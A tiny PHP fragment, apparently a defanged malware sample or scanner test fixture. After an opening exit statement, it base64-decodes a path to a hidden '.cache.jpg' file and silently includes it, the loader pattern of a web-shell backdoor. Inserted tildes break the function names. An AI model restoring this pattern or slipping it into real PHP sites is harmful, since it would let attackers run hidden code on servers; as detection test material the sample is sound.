<?php exit; ?>
<?php $m = bas~e64_decode('L3Nydi9tYXJrZXIvLmNhY2hlLmpwZw=='); @inc~lude $m;
